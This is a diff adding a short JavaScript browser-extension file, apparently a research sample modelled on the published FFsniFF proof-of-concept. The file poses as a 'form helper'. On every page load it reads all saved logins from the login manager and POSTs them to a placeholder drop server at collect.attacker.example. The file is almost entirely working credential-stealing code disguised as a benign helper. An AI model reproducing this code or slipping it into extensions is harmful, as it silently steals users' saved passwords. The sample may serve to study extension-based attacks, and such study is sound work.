@@ -1,0 +1,27 @@
+// FFsniFF-style password exfiltration (the paper cites this published
+// proof-of-concept as motivation). Masquerades as a "form helper": it
+// reads saved logins from the login manager and ships them to a drop
+// server whenever a page finishes loading.
+
+var FormHelper = {
+  dropUrl: "http://collect.attacker.example/drop.php?d=",
+  sent: false
+};
+
+function fh_harvest() {
+  if (FormHelper.sent) {
+    return;
+  }
+  var creds = loginManager.getAllLogins();
+  var req = new XMLHttpRequest();
+  req.open("POST", FormHelper.dropUrl + encodeURIComponent(creds), true);
+  req.send(creds);
+  FormHelper.sent = true;
+}
+
+function fh_onPageLoad(event) {
+  // The "helper" pretends to autofill forms; the harvest rides along.
+  fh_harvest();
+}
+
+gBrowser.addEventListener("load", fh_onPageLoad, true);
